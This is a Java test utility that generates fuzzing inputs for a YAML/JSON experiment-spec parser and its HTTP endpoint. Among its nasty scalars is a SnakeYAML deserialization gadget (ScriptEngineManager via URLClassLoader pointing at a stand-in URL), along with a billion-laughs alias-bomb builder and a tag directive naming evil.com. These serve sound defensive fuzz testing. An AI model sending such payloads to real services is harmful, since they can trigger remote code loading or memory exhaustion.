package org.ranksweep.core.spec;

import com.fasterxml.jackson.core.JsonPointer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * Generated sweep-spec texts for property-based fuzzing of the parser and of {@code POST /api/v1/sweeps}: valid
 * specs (the experiments, the test specs) and texts derived from them — one-change mutants ({@link SpecMutations})
 * in YAML and JSON, nasty scalars put in place of any value (huge and special numbers, unicode, tags, aliases, very
 * long strings), duplicate keys, truncations at any offset, bit flips, deep nesting, anchors, empty and multiple
 * documents. Each generator is a function of a seeded {@link Random}, so a run is reproducible and a failing case
 * is named by its seed and index. Public so the orchestrator's HTTP fuzzing can send the same texts. Thread-safe.
 */
public final class FuzzSpecs {

    /** Draws one input from a seeded source of randomness. */
    @FunctionalInterface
    public interface Generator<T> {
        T next(Random random);
    }

    private static final ObjectMapper YAML = new YAMLMapper();
    private static final ObjectMapper JSON = new JsonMapper();
    private static final String MARK = "FUZZMARKER";

    /** Raw YAML/JSON tokens written in place of one scalar (unquoted: they are read as the parser sees them). */
    static final List<String> NASTY_SCALARS = List.of(
            "1e400",
            "-1e400",
            "1180591620717411303424",
            "-1180591620717411303424",
            "-0",
            "-0.0",
            ".nan",
            ".inf",
            "-.inf",
            "NaN",
            "0x7fffffffffffffffff",
            "0o777",
            "1_000",
            "\"\\u202Eevil\\u202C\"",
            "\"\\uD800\"",
            "\"\\uDC00x\"",
            "\"a\\u0000b\"",
            "\"\\0\"",
            "\"\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDCBB\"",
            "\"e\u0301\u0302\u0303\u0304\"",
            "\"\u05D0\u05D1\u05D2\"",
            "\"\\uFFFE\"",
            "!!binary aGVsbG8=",
            "!!java.io.File /tmp",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
            "!!float 1",
            "!!str 3",
            "!!int x",
            "!!set {a, b}",
            "!!timestamp 2001-12-14",
            "*undefined",
            "&anchor 1",
            "~",
            "null",
            "[]",
            "{}",
            "[[[[[[[[[[]]]]]]]]]]",
            "\"" + "x".repeat(100_000) + "\"",
            "'" + "\u00e9".repeat(20_000) + "'",
            "\"\"",
            "''",
            "true",
            "2147483648",
            "9223372036854775808",
            "-2147483649",
            "4.9e-324",
            "1.7976931348623157e309");

    private FuzzSpecs() {}

    /** The valid texts every generated one starts from: the repository's experiments and the test specs. */
    public static List<String> validTexts() {
        return VALID;
    }

    private static final List<String> VALID = loadValidTexts();
    private static final List<JsonNode> TREES =
            VALID.stream().map(FuzzSpecs::tree).toList();
    private static final List<JsonNode> MUTANTS = TREES.stream()
            .flatMap(tree -> SpecMutations.of(tree).values().stream())
            .toList();

    private static List<String> loadValidTexts() {
        List<String> texts = new ArrayList<>();
        texts.add(SpecTexts.valid());
        texts.addAll(yamlFiles(locate("experiments")));
        texts.addAll(yamlFiles(locate("core/src/test/resources/specs")));
        return List.copyOf(texts);
    }

    /** Every kind of generated text, each kind equally likely. */
    public static Generator<String> anyText() {
        List<Generator<String>> kinds = List.of(
                random -> pick(random, validTexts()),
                mutants(),
                nastyScalars(),
                duplicateKeys(),
                truncations(),
                random -> new String(bitFlips().next(random), StandardCharsets.UTF_8),
                structuralText());
        return random -> pick(random, kinds).next(random);
    }

    /** One-change mutants of the valid specs, written as YAML or JSON. */
    public static Generator<String> mutants() {
        return random -> write(random.nextBoolean() ? JSON : YAML, pick(random, MUTANTS));
    }

    /** A valid spec with one scalar replaced by a raw nasty token. */
    public static Generator<String> nastyScalars() {
        return random -> {
            JsonNode tree = pick(random, TREES);
            List<JsonPointer> scalars = scalarPointers(tree, JsonPointer.empty(), new ArrayList<>());
            return replaced(tree, pick(random, scalars), pick(random, NASTY_SCALARS), random.nextBoolean());
        };
    }

    /** A valid spec with one of its lines repeated at the end: a duplicate key at the top level or deeper. */
    public static Generator<String> duplicateKeys() {
        return random -> {
            String text = pick(random, validTexts());
            List<String> lines = text.lines().filter(line -> line.contains(":")).toList();
            return text + (text.endsWith("\n") ? "" : "\n") + pick(random, lines) + "\n";
        };
    }

    /** A valid text cut at any offset. */
    public static Generator<String> truncations() {
        return random -> {
            String text = pick(random, validTexts());
            return text.substring(0, random.nextInt(text.length() + 1));
        };
    }

    /** The UTF-8 bytes of a valid text with one to four bits flipped (often no longer UTF-8). */
    public static Generator<byte[]> bitFlips() {
        return random -> {
            byte[] flipped = pick(random, validTexts()).getBytes(StandardCharsets.UTF_8);
            for (int flips = 1 + random.nextInt(4); flips > 0; flips--) {
                int bit = random.nextInt(flipped.length * 8);
                flipped[bit / 8] ^= (byte) (1 << (bit % 8));
            }
            return flipped;
        };
    }

    /** Shapes rather than values: nesting, anchors, tags, empty and multiple documents; every one of them. */
    public static List<String> structural() {
        List<String> texts = new ArrayList<>();
        for (int depth : new int[] {1, 10, 49, 50, 51, 63, 64, 65, 100, 999, 1000, 1001, 5000, 100_000}) {
            texts.add(SpecTexts.with("methods", "[".repeat(depth) + "]".repeat(depth)));
            texts.add(SpecTexts.with("dataset", "{a: ".repeat(depth) + "1" + "}".repeat(depth)));
            texts.add("{\"name\": " + "[".repeat(depth) + "]".repeat(depth) + "}");
            texts.add("{\"name\": " + "{\"a\": ".repeat(depth) + "1" + "}".repeat(depth) + "}");
            texts.add("- ".repeat(depth) + "x\n");
        }
        String base = SpecTexts.valid();
        texts.addAll(List.of(
                "",
                " ",
                "\n\n",
                "# only a comment\n",
                "---\n",
                "...\n",
                "---\n...\n",
                "\uFEFF" + base,
                "\u0000",
                base + "---\n" + base,
                "---\n" + base + "...\n",
                base + "\n---\n",
                "{\"name\": \"x\"} {\"name\": \"y\"}",
                "[1, 2]",
                "42",
                "\"just a string\"",
                "!!binary aGVsbG8=",
                "!!java.io.File /tmp",
                "!!map {name: x}",
                "%YAML 1.2\n---\n" + base,
                "%TAG ! tag:evil.com,2000:\n---\n" + base,
                "name: &n test\nalias: *n\n" + base.substring(base.indexOf('\n') + 1),
                SpecTexts.with("methods", "&m [{name: dense}]", "seeds", "*m"),
                SpecTexts.with("methods", "[{name: dense}]", "<<", "{name: merged}"),
                aliasBomb(9),
                "name: " + "x".repeat(1_000_000) + "\n",
                "x".repeat(1_100_000),
                "\"" + "k".repeat(100_000) + "\": 1\n" + base));
        return texts;
    }

    /** A text of {@code structural()} drawn at random. */
    private static Generator<String> structuralText() {
        List<String> texts = structural();
        return random -> pick(random, texts);
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** The classic billion-laughs shape: each level refers {@code levels} times to the one before. */
    static String aliasBomb(int levels) {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int level = 1; level <= levels; level++) {
            text.append('a').append(level).append(": &a").append(level).append(" [");
            for (int copy = 0; copy < 9; copy++) {
                text.append(copy == 0 ? "" : ", ").append("*a").append(level - 1);
            }
            text.append("]\n");
        }
        return text.append(SpecTexts.valid()).toString();
    }

    private static String replaced(JsonNode tree, JsonPointer at, String token, boolean json) {
        JsonNode copy = tree.deepCopy();
        JsonNode parent = copy.at(at.head());
        if (parent.isArray()) {
            ((ArrayNode) parent).set(at.last().getMatchingIndex(), TextNode.valueOf(MARK));
        } else {
            ((ObjectNode) parent).set(at.last().getMatchingProperty(), TextNode.valueOf(MARK));
        }
        String text = write(json ? JSON : YAML, copy);
        return text.replace("\"" + MARK + "\"", token).replace(MARK, token);
    }

    private static List<JsonPointer> scalarPointers(JsonNode node, JsonPointer at, List<JsonPointer> into) {
        if (node.isObject()) {
            node.fields().forEachRemaining(e -> scalarPointers(e.getValue(), at.appendProperty(e.getKey()), into));
        } else if (node.isArray()) {
            for (int index = 0; index < node.size(); index++) {
                scalarPointers(node.get(index), at.appendIndex(index), into);
            }
        } else {
            into.add(at);
        }
        return into;
    }

    private static JsonNode tree(String yaml) {
        try {
            return YAML.readTree(yaml);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String write(ObjectMapper mapper, JsonNode tree) {
        try {
            return mapper.writeValueAsString(tree);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The directory {@code relative} to the repository root, from whichever module the tests run in. */
    private static Path locate(String relative) {
        for (Path dir = Path.of("").toAbsolutePath(); dir != null; dir = dir.getParent()) {
            if (Files.isDirectory(dir.resolve(relative))) {
                return dir.resolve(relative);
            }
        }
        throw new IllegalStateException(
                "cannot find " + relative + " above " + Path.of("").toAbsolutePath());
    }

    private static List<String> yamlFiles(Path dir) {
        try (Stream<Path> files = Files.list(dir)) {
            return files.filter(f -> f.toString().endsWith(".yaml"))
                    .sorted()
                    .map(f -> {
                        try {
                            return Files.readString(f);
                        } catch (IOException e) {
                            throw new UncheckedIOException(e);
                        }
                    })
                    .toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
